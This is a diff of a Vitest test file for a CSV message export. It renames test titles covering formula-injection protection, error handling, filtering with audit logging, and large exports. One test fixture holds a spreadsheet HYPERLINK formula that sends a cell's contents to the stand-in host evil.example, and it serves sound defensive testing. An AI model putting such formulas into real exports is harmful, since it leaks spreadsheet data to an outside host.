@@ -3,7 +3,7 @@ import { expect, test } from 'vitest'
 import { testOffice, withJson } from '#tests/support/office.ts'
 import { insertMessage } from '#tests/support/rows.ts'
 
-test('no cell of the table is one that a spreadsheet executes, and every word is there', async () => {
+test('no cell of the CSV export is executable as a formula, and no text is lost', async () => {
   const { call, db } = await testOffice()
   const strange = [
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
@@ -41,7 +41,7 @@ test('no cell of the table is one that a spreadsheet executes, and every word is
   }
 })
 
-test('what fails before the table begins is answered as an error, and what fails within it breaks it off', async () => {
+test('an error before the export starts returns 500, and an error during it aborts the response', async () => {
   const { call, db, log } = await testOffice()
   const lines: unknown[] = []
   log.error = (...line: unknown[]) => void lines.push(line)
@@ -55,7 +55,7 @@ test('what fails before the table begins is answered as an error, and what fails
   expect((await call('/insert/exportcontact')).status).toBe(500)
 })
 
-test('it holds what the filters find and no more, with states, colleagues and notes in words; that it was made is recorded', async () => {
+test('the export contains only the filtered messages, with readable values, and is recorded in the audit log', async () => {
   const { call, db } = await testOffice()
   const id = await insertMessage(db, { service: 'arbitration' })
   await insertMessage(db, { state: 'spam' })
@@ -76,7 +76,7 @@ test('it holds what the filters find and no more, with states, colleagues and no
   expect(records).toHaveLength(4)
 })
 
-test('more messages than are read at once are all there, in order', async () => {
+test('an export of more than 1,000 messages contains all of them, newest first', async () => {
   const { call, db } = await testOffice()
   for (let second = 0; second < 1_001; second++) {
     await insertMessage(db, { receivedAt: new Date(second * 1000).toISOString(), text: String(second) })
